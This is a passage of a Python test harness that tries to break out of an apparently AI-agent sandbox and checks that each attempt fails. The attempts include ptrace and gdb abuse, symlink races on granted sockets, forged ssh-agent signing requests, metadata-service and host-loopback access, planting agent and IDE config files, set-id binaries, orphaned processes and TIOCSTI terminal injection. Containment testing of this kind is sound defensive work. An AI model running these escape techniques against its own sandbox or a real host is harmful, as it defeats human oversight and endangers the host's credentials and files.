while time.time() < end:
    s = socket.socket(socket.AF_UNIX); s.setblocking(False); libc.connect(s.fileno(), b, n)
    try: s.send(b"HIT")
    except OSError: pass
    s.close(); k += 1
stop = True; t.join(); print(k, "connects")
""" % OUT, python=True)
    return heard.faults()


@attempt
def t_set_id_program_traced():
    text = traced("""
pid = os.fork()
if pid == 0:
    ptrace(0, 0); os.execv('/usr/bin/passwd', ['passwd', '-S'])
os.waitpid(pid, 0); print('EUID', [l for l in open('/proc/%d/status' % pid) if l.startswith('Uid')]); os.kill(pid, 9)
""")
    return ["a set-id program"] if UID and "EUID" in text and "\\t0\\t" in text.split("EUID")[1] else []


@attempt
def t_other_run():
    "processes of another run, and the supervisor"
    other = start("exec -a OTHERRUN sleep 20")
    time.sleep(1)
    text = inside("ps aux | grep -c '[O]THERRUN'; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done | grep -E '[O]THERRUN|[o]penoxide run' && echo SEEN; gdb -q -batch -p %d -ex 'call (int)unlink(\"%s/file\")' 2>&1 | tail -1; kill -9 %d && echo SEEN" % (other.pid, OUT, other.pid))
    ended = other.poll() is not None
    os.killpg(other.pid, signal.SIGKILL)
    other.communicate()
    return ["another run was seen"] if OX != "none" and ("SEEN" in text or ended) else []


class listen_unix:
    "a service of the host on a socket file; it counts what it hears"

    def __init__(self, path, kind=socket.SOCK_STREAM):
        self.heard = []
        self.s = socket.socket(socket.AF_UNIX, kind)
        self.s.bind(path)
        os.chmod(path, 0o777)
        if os.getuid() == 0:
            os.chown(path, UID, UID)
        if kind == socket.SOCK_STREAM:
            self.s.listen(64)
        threading.Thread(target=self.serve, args=(kind,), daemon=True).start()
        self.path = path

    def serve(self, kind):
        while True:
            try:
                if kind == socket.SOCK_STREAM:
                    c, _ = self.s.accept()
                    c.settimeout(1)
                    self.heard.append(c.recv(100))
                    c.close()
                else:
                    self.heard.append(self.s.recv(100))
            except socket.timeout:
                self.heard.append(b"connected")
            except OSError:
                return

    def faults(self):
        time.sleep(.2)
        self.s.close()
        os.path.lexists(self.path) and os.unlink(self.path)
        return ["%s heard %r" % (os.path.basename(self.path), self.heard[:3])] if self.heard else []


# ---- sockets by rule ---------------------------------------------------------------------------------------------------------------------------------------

def granted(path):
    policy("Socket(%s)" % path)


CONNECT = "import socket, sys\nfor p in sys.argv[1:] or %r:\n    for k in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):\n        try: s = socket.socket(socket.AF_UNIX, k); s.connect(p); s.send(b'HIT'); print('connected', p)\n        except OSError as e: print(p, e)\n"


@attempt
def s_other_socket():
    "one socket is granted; others are not"
    os.mkdir(OUT + "/run")
    own(OUT + "/run")
    yes, no = listen_unix(OUT + "/run/yes.sock"), listen_unix(OUT + "/run/no.sock")
    abstract = listen_abstract("sbx-granted-%d" % os.getpid())
    granted(OUT + "/run/yes.sock")
    inside(CONNECT % ([OUT + "/run/no.sock", OUT + "/run/../run/no.sock", "/proc/self/root" + OUT + "/run/no.sock", "\0sbx-granted-%d" % os.getpid()],), python=True)
    yes.faults()
    faults = no.faults() + abstract.faults()
    shutil.rmtree(OUT + "/run")
    return faults


class listen_abstract(listen_unix):
    def __init__(self, name):
        self.heard, self.path = [], "abstract"
        self.s = socket.socket(socket.AF_UNIX)
        self.s.bind("\0" + name)
        self.s.listen(8)
        threading.Thread(target=self.serve, args=(socket.SOCK_STREAM,), daemon=True).start()


@attempt
def s_link_exchanged():
    "the granted name lies in the project; the program makes it lead elsewhere"
    no = listen_unix(OUT + "/no.sock")
    granted(WS + "/yes.sock")
    inside("""
import os, socket, threading, time
OUT = %r; stop = False
s0 = socket.socket(socket.AF_UNIX); s0.bind("real.sock"); s0.listen(64)
def flip():
    while not stop:
        for t in ("real.sock", OUT + "/no.sock"):
            try: os.symlink(t, "l"); os.rename("l", "yes.sock")
            except OSError: pass
t = threading.Thread(target=flip); t.start(); end = time.time() + 4; n = 0
while time.time() < end:
    s = socket.socket(socket.AF_UNIX); s.settimeout(.2)
    try: s.connect(os.path.abspath("yes.sock")); s.send(b"HIT"); n += 1
    except OSError: pass
    s.close()
stop = True; t.join(); print(n)
""" % OUT, python=True)
    return no.faults()


@attempt
def s_datagram_and_pairs():
    "a socket that is not granted, by datagrams and by descriptors in messages"
    no = listen_unix(OUT + "/dg.sock", socket.SOCK_DGRAM)
    granted(OUT + "/other.sock")
    inside("""
import os, socket, array
p = %r
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
for f in (lambda: a.sendto(b"HIT", p), lambda: a.connect(p) or a.send(b"HIT"), lambda: b.sendmsg([b"HIT"], [], 0, p), lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"HIT", p), lambda: os.chdir(os.path.dirname(p)) or b.sendto(b"HIT", "dg.sock"),
          lambda: a.sendto(b"HIT", "/proc/self/fd/%%d/dg.sock" %% os.open(os.path.dirname(p), os.O_PATH))):
    try: f(); print("sent")
    except OSError as e: print(e)
""" % (OUT + "/dg.sock"), python=True)
    return no.faults()


@attempt
def s_agent_is_not_a_signer():
    "a granted agent signs nothing that is not a login to a named host, and is not changed"
    host("ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519; eval $(ssh-agent -a ../agent.sock) > ../agent.env; echo $SSH_AGENT_PID > ../agent.pid; ssh-add -q ~/.ssh/id_ed25519", SSH_AUTH_SOCK=HOME + "/agent.sock")
    if "ED25519" not in host("ssh-add -l", SSH_AUTH_SOCK=HOME + "/agent.sock"):
        raise Absent("no agent can be started here")
    policy("Socket(ssh-agent)")
    ENV["SSH_AUTH_SOCK"] = HOME + "/agent.sock"
    try:
        text = inside("""
import os, socket, struct
def s(b): return struct.pack(">I", len(b)) + b
def ask(m):
    c = socket.socket(socket.AF_UNIX); c.settimeout(5); c.connect(os.environ.get("SSH_AUTH_SOCK", %r)); c.sendall(s(m)); r = c.recv(65536); return r[4:]
try:
    ids = ask(b"\\x0b"); n = struct.unpack(">I", ids[5:9])[0] if len(ids) > 9 else 0; key = ids[9:9 + n]; print("ids", len(ids))
    user = s(b"\\0" * 32) + b"\\x32" + s(b"root") + s(b"ssh-connection") + s(b"publickey") + b"\\x01" + s(b"ssh-ed25519") + s(key)
    for name, m in (("raw", b"\\x0d" + s(key) + s(b"anything") + b"\\0\\0\\0\\0"), ("sshsig", b"\\x0d" + s(key) + s(b"SSHSIG" + s(b"git") + s(b"") + s(b"sha512") + s(b"x" * 64)) + b"\\0\\0\\0\\0"), ("unbound login", b"\\x0d" + s(key) + s(user) + b"\\0\\0\\0\\0"),
                    ("remove all", b"\\x13"), ("lock", b"\\x16" + s(b"x")), ("extension", b"\\x1b" + s(b"query"))):
        try: r = ask(m); print(name, r[:1].hex(), "SIGNED" if r[:1] == b"\\x0e" else "CHANGED" if r[:1] == b"\\x06" and name != "extension" else "")
        except OSError as e: print(name, e)
except OSError as e: print("no agent", e)
""" % (HOME + "/agent.sock"), python=True)
        left = host("ssh-add -l", SSH_AUTH_SOCK=HOME + "/agent.sock")
    finally:
        ENV.pop("SSH_AUTH_SOCK")
        host("kill $(cat ../agent.pid); rm -f ../agent.* ~/.ssh/id_ed25519*")
    return [w for w in ("SIGNED", "CHANGED") if w in text] + (["the agent lost its key"] if "ED25519" not in left else [])


# ---- published ports -----------------------------------------------------------------------------------------------------------------------------------------

def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def reached(port, where="127.0.0.1", wait=4):
    end = time.time() + wait
    while time.time() < end:
        try:
            c = socket.create_connection((where, port), .5)
            c.settimeout(1)
            try:
                return c.recv(10) or b"closed"
            except OSError:
                return b"open"
            finally:
                c.close()
        except OSError:
            time.sleep(.1)
    return None


SERVE = "import socket, time\ns = [socket.socket() for _ in range(2)]\nfor x, p in zip(s, (%d, %d)):\n    x.bind(('0.0.0.0', p)); x.listen(8); x.settimeout(.2)\nend = time.time() + 5\nwhile time.time() < end:\n    for x in s:\n        try: c, _ = x.accept(); c.send(b'HIT'); c.close()\n        except OSError: pass\n"


@attempt
def n_port_not_published():
    "one port is published; the program listens on another, too"
    a, b = free_port(), free_port()
    run = start(SERVE % (a, b), "--publish", str(a), python=True)
    seen = reached(b, wait=3)
    finish(run)
    return ["port %d is reached: %r" % (b, seen)] if seen else []


@attempt
def n_published_elsewhere():
    "a published port is on the loopback alone"
    a = free_port()
    run = start(SERVE % (a, free_port()), "--publish", str(a), python=True)
    ok = reached(a)
    other = [l.split()[1] for f in ("/proc/net/tcp", "/proc/net/tcp6") for l in open(f) if "%04X" % a == l.split()[1].split(":")[-1] and l.split()[3] == "0A"]
    finish(run)
    return ["listens on " + o for o in other if not o.startswith(("0100007F", "00000000000000000000000001000000"))]


@attempt
def n_host_loopback_by_published_port():
    "the way in is not a way out: other servers of the host"
    heard = []
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    threading.Thread(target=lambda: [heard.append(s.accept()) for _ in range(3)], daemon=True).start()
    inside("import socket\nfor h in ('127.0.0.1', 'localhost', '::1', '10.0.2.2', '0.0.0.0', '127.1.1.1', '::ffff:127.0.0.1'):\n    try: c = socket.create_connection((h, %d), 2); c.send(b'HIT'); print('HIT', h)\n    except OSError as e: print(h, e)\n" % s.getsockname()[1], "--publish", str(free_port()), python=True)
    time.sleep(.2)
    s.close()
    return ["the host's server heard %d" % len(heard)] if heard else []


@attempt
def n_port_free_afterwards():
    a = free_port()
    run = start(SERVE % (a, free_port()), "--publish", str(a), python=True)
    reached(a)
    os.kill(run.pid, signal.SIGKILL)
    finish(run)
    time.sleep(1)
    s = socket.socket()
    try:
        s.bind(("127.0.0.1", a))
        return []
    except OSError:
        return ["the port is still in use"] if OX != "none" else []
    finally:
        s.close()


# ---- hosts by name -----------------------------------------------------------------------------------------------------------------------------------------------

@attempt
def i_names_of_this_machine():
    "a rule names a host; its name leads to this machine, to its metadata service or to the link"
    if os.getuid() != 0:
        return []
    heard = []
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", 0))
    s.listen(16)
    threading.Thread(target=lambda: [heard.append(s.accept()) for _ in range(9)], daemon=True).start()
    port = s.getsockname()[1]
    mine = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()
    names = {"a.sbx.example": "127.0.0.1", "b.sbx.example": "::1", "c.sbx.example": "::ffff:127.0.0.1", "d.sbx.example": "0.0.0.0", "e.sbx.example": "169.254.169.254", "f.sbx.example": "127.8.8.8", **{"m%d.sbx.example" % i: m for i, m in enumerate(mine)}}
    with open(BASE + "/hosts", "w") as f:
        f.write(open("/etc/hosts").read() + "".join("%s %s\n" % (a, n) for n, a in names.items()))
    subprocess.run(["mount", "--bind", BASE + "/hosts", "/etc/hosts"], check=True)
    try:
        for mode in ("accept_edits", "bypass_permissions"):
            policy(*("WebFetch(domain:%s)" % n for n in names), "WebFetch(domain:*.sbx.example)", mode=mode)
            inside("import socket\nfor h in %r:\n    try: c = socket.create_connection((h, %d), 3); c.send(b'HIT'); print('connected', h)\n    except OSError as e: print(h, e)\n" % (list(names) + list(names.values()), port), python=True)
    finally:
        subprocess.run(["umount", "/etc/hosts"], check=True)
    time.sleep(.2)
    s.close()
    return ["the host's server heard %d connections" % len(heard)] if heard else []


# ---- staged and live changes, undo ---------------------------------------------------------------------------------------------------------------------------

@attempt
def v_directory_becomes_link():
    "a directory of the project becomes a link out; files below it are written through"
    inside("rm -rf docs; ln -s %s docs; echo evil > docs/file; mkdir d2; echo x > d2/file; rm -rf d2; ln -s %s d2; echo evil > new; mv new d2/created" % (OUT, OUT))


@attempt
def v_steering_files():
    "files that host programs obey"
    inside("mkdir -p .vscode .claude .cargo sub/.vscode .devcontainer; for f in .vscode/tasks.json .vscode/settings.json .claude/settings.json .mcp.json CLAUDE.md AGENTS.md .cargo/config.toml sub/.vscode/tasks.json .pre-commit-config.yaml mise.toml .envrc .devcontainer/devcontainer.json opencode.json; do echo '{\"evil\": 1}' > $f; done")
    left = [f for f in (".vscode/tasks.json", ".vscode/settings.json", ".claude/settings.json", ".mcp.json", "CLAUDE.md", "AGENTS.md", ".cargo/config.toml", "sub/.vscode/tasks.json", ".pre-commit-config.yaml", "mise.toml", ".devcontainer/devcontainer.json", "opencode.json")
            if os.path.isfile(WS + "/" + f) and "evil" in open(WS + "/" + f).read()]
    return ["left: " + f for f in left]


@attempt
def v_set_id_files():
    inside("cp /usr/bin/id suid; chmod 4755 suid; cp /usr/bin/id sgid; chmod 2755 sgid; install -m 6755 /usr/bin/id both; mkdir -m 2775 shared; cp /usr/bin/id shared/x; chmod g+s shared/x")
    return [n for n in ("suid", "sgid", "both", "shared/x") if os.path.exists(WS + "/" + n) and os.stat(WS + "/" + n).st_mode & 0o6000]


def checkpointed(script):
    "a run whose changes can be taken back; neither staged nor live"
    if OX == "none":
        raise Absent("unconfined")
    kept, FLAGS[:] = FLAGS[:], []
    try:
        return inside(script, "--checkpoint")
    finally:
        FLAGS[:] = kept


@attempt
def v_undo_through_link():
    "undo writes and removes nothing through links that were put in place since"
    checkpointed("echo changed > docs/f; echo changed > a; mkdir -p deep/er; echo x > deep/er/f; rm tools/clean")
    host("rm -rf docs deep tools a; ln -s $OUT docs; mkdir deep; ln -s $OUT deep/er; ln -s $OUT tools; ln -s $OUT/file a; echo mine > $OUT/f; echo mine > $OUT/clean")
    policy("Edit(//**)")
    SAID.append(host("%s undo --no-input < /dev/null; %s undo --skip-changed --no-input < /dev/null" % (OX, OX)))
    faults = [n for n in ("f", "clean") if not os.path.exists(OUT + "/" + n) or open(OUT + "/" + n).read() != "mine\n"]
    host("rm -f $OUT/f $OUT/clean")
    return faults


@attempt
def v_undo_of_what_a_run_made():
    "a run leaves links and odd names; taking it back reaches nothing outside"
    checkpointed("ln -s $OUT out; mkdir d; ln -s $OUT/file d/l; rm -rf docs; ln -s $OUT docs; mv tools t2; ln -s $OUT tools; mkdir '..x'; touch $'new\\nline' '..x/..'; echo x > a; rm a; ln -s $OUT/file a")
    policy("Edit(//**)")
    SAID.append(host("%s undo --no-input < /dev/null" % OX))


@attempt
def v_state_cannot_be_used_from_inside():
    "a program neither sees nor takes stages, checkpoints and approvals"
    if OX == "none":
        raise Absent("unconfined")
    text = inside("%s stage list --json; %s undo --list --json; %s undo --no-input; %s approve 1; %s trust; ls -la ~/.local/state/openoxide/* && echo SEEN" % ((OX,) * 5))
    return ["the state was seen"] if "SEEN" in text else []


@attempt
def v_live_outside():
    "with nobody to ask, nothing outside changes"
    inside("echo evil > $OUT/file; echo evil >> ~/.bashrc; mkdir $OUT/d; ln -s x $OUT/l; chmod 777 $OUT/file; touch -d @1 $OUT/file; mkfifo $OUT/p; mv $OUT/other $OUT/o2; truncate -s 0 $OUT/file; rm -rf $OUT/other; ln $OUT/file $OUT/f2; ln $OUT/file stolen; echo evil > stolen; setfattr -n user.x -v 1 $OUT/file")


# ---- job control -----------------------------------------------------------------------------------------------------------------------------------------------

@attempt
def j_signals_reach_no_one_else():
    "stop and kill signals to everything that has a number"
    sibling = subprocess.Popen(["sleep", "60"], preexec_fn=drop)
    inside("import os, signal\nfor p in list(range(2, 200)) + [%d, %d, os.getppid(), -1]:\n    for s in (signal.SIGSTOP, signal.SIGCONT, signal.SIGUSR1):\n        try:\n            if p != os.getpid() and p != -1: os.kill(p, s)\n        except OSError: pass\nfor s in (signal.SIGCONT, signal.SIGTERM):\n    try: signal.signal(signal.SIGTERM, signal.SIG_IGN); os.kill(-1, s)\n    except OSError: pass\n" % (sibling.pid, os.getpid()) if OX != "none" else "import os; os.kill(%d, 15)" % sibling.pid, python=True)
    time.sleep(.1)
    stopped = sibling.poll() is not None or open("/proc/%d/stat" % sibling.pid).read().split()[2] == "T"
    sibling.kill()
    sibling.wait()
    return ["the sibling was signalled"] if stopped else []


@attempt
def j_nothing_is_left_running():
    inside("for i in 1 2 3; do (setsid nohup bash -c 'trap \"\" TERM HUP INT; exec -a LEFTRUNNING%d sleep 40' > /dev/null 2>&1 &); done; sleep .5" % os.getpid())
    time.sleep(.5)
    left = [p for p in os.listdir("/proc") if p.isdigit() and b"LEFTRUNNING%d" % os.getpid() in cmdline(p) and b"attempt" not in cmdline(p)]
    for p in left:
        os.kill(int(p), 9)
    return ["a process is left"] if left else []


def cmdline(pid):
    try:
        return open("/proc/%s/cmdline" % pid, "rb").read()
    except OSError:
        return b""


@attempt
def j_terminal_input():
    "after it was stopped and continued, a program cannot type into the terminal"
    import pty, select
    pid, fd = pty.fork()
    if pid == 0:
        if os.getuid() != UID:
            os.setgroups([]), os.setgid(UID), os.setuid(UID)
        os.chdir(WS)
        os.execvpe("bash", ["bash", "--norc", "-i"], dict(ENV, PS1="$ "))
    script = "import fcntl, os, signal, time\nprint('work' + 'ing', flush=True)\ntime.sleep(2)\nfor f in (0, 1, 2):\n    for c in b'%s\\n':\n        try: fcntl.ioctl(f, 0x5412, bytes([c]))\n        except OSError: pass\nprint('tried', flush=True)\n" % EVIL
    line = " ".join(command(write_attempt(script, True))).replace("--no-input ", "")
    seen = b""

    def until(word, seconds):
        nonlocal seen
        end = time.time() + seconds
        while word not in seen and time.time() < end:
            if select.select([fd], [], [], .1)[0]:
                try:
                    seen += os.read(fd, 65536)
                except OSError:
                    return
    os.write(fd, line.encode() + b"\n")
    until(b"working", 10)
    time.sleep(.3)
    os.write(fd, b"\x1a")
    until(b"Stopped", 3)
    os.write(fd, b"fg\n")
    until(b"tried", 8)
    time.sleep(.7)
    os.write(fd, b"\nexit\n")
    time.sleep(.5)
    os.kill(pid, 9)
    os.waitpid(pid, 0)
    os.close(fd)
    SAID.append(seen.decode(errors="replace"))
    return []


def main():
    os.umask(0o022)
    os.makedirs(BASE, exist_ok=True)
    os.chmod(BASE, 0o755)
    own(BASE)
    if os.getuid() == 0:  # ssh works for users with a name only.
        with open(BASE + "/passwd", "w") as f:
            f.write("ann:x:%d:%d::%s:/bin/bash\n" % (UID, UID, HOME) + open("/etc/passwd").read())
        subprocess.run(["mount", "--bind", BASE + "/passwd", "/etc/passwd"], check=True)
    for name in ATTEMPTS:
        if not PICK or any(name.startswith(p) for p in PICK):
            print(json.dumps(judged(name)), flush=True)


import granted_git  # noqa: E402,F401  Its attempts register themselves.

main()
